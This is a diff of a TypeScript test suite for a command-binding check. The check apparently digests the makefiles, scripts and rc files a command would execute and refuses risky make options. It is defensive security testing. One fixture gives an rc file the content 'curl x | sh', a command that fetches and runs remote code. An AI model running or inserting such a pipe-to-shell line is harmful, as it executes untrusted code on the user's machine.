@@ -102,13 +102,70 @@ describe("commandBinding", () => {
     expect(a.ok && b.ok && a.digest !== b.digest).toBe(true);
   });
 
-  it("binds make to the Makefile and refuses make -f", () => {
-    const read = files({ "/home/dev/app/Makefile": "all:\n\ttrue\n" });
+  it("binds make to the makefile it reads: -f files, else the first default name that exists", () => {
+    const read = files({ "/home/dev/app/Makefile": "all:\n\ttrue\n", "/home/dev/app/other.mk": "x:\n" });
     expect(executedContent(["make", "build"], CWD, read)).toMatchObject({
       kind: "makefile",
       file: "/home/dev/app/Makefile",
     });
-    expect(executedContent(["make", "-f", "other.mk"], CWD, read)).toHaveProperty("refused");
+    expect(executedContent(["make", "-j4", "-f", "other.mk", "x"], CWD, read)).toMatchObject({
+      kind: "makefile",
+      file: "/home/dev/app/other.mk",
+    });
+    expect(executedContent(["make", "--file=missing.mk"], CWD, read)).toHaveProperty("refused");
+    expect(executedContent(["make", "-C", "sub"], CWD, read)).toHaveProperty("refused");
+    expect(executedContent(["make", "--eval=x:", "x"], CWD, read)).toHaveProperty("refused");
+  });
+
+  it("never skips a GNUmakefile or makefile that make would read but that is refused", () => {
+    for (const refusedName of ["GNUmakefile", "makefile"]) {
+      const read = (file: string) =>
+        file === `/home/dev/app/${refusedName}`
+          ? { refused: "it is a FIFO" }
+          : file === "/home/dev/app/Makefile"
+            ? "all:\n"
+            : undefined;
+      const content = executedContent(["make"], CWD, read);
+      expect(content).toHaveProperty("refused");
+      expect((content as { refused: string }).refused).toContain(refusedName);
+    }
+  });
+
+  it("digests bytes: files that decode to the same text still differ", () => {
+    const a = commandBinding(["./x.sh"], CWD, () => Uint8Array.from([0x65, 0xff]));
+    const b = commandBinding(["./x.sh"], CWD, () => Uint8Array.from([0x65, 0xfe]));
+    expect(a.ok && b.ok).toBe(true);
+    if (a.ok && b.ok) expect(a.digest).not.toBe(b.digest);
+  });
+
+  it("binds the script an interpreter runs, not an option's value, and digests files options load", () => {
+    const read = files({
+      "/home/dev/app/rc": "echo rc",
+      "/home/dev/app/x.sh": "echo x",
+      "/home/dev/app/x.py": "print(1)",
+      "/home/dev/app/opt": "decoy",
+    });
+    expect(executedContent(["python3", "-X", "opt", "x.py"], CWD, read)).toMatchObject({
+      file: "/home/dev/app/x.py",
+    });
+    expect(executedContent(["python3", "-W", "opt", "x.py"], CWD, read)).toMatchObject({
+      file: "/home/dev/app/x.py",
+    });
+    expect(executedContent(["bash", "-O", "opt", "x.sh"], CWD, read)).toMatchObject({
+      file: "/home/dev/app/x.sh",
+    });
+    const withRc = commandBinding(["bash", "--rcfile", "rc", "x.sh"], CWD, read);
+    expect(withRc).toMatchObject({
+      ok: true,
+      content: { file: "/home/dev/app/x.sh", loads: ["/home/dev/app/rc"] },
+    });
+    const rcChanged = commandBinding(
+      ["bash", "--rcfile", "rc", "x.sh"],
+      CWD,
+      files({ "/home/dev/app/rc": "curl x | sh", "/home/dev/app/x.sh": "echo x" }),
+    );
+    expect(withRc.ok && rcChanged.ok && withRc.digest !== rcChanged.digest).toBe(true);
+    expect(commandBinding(["node", "-r", "./hook.js", "x.js"], CWD, read)).toMatchObject({ ok: false });
   });
 
   it.each([
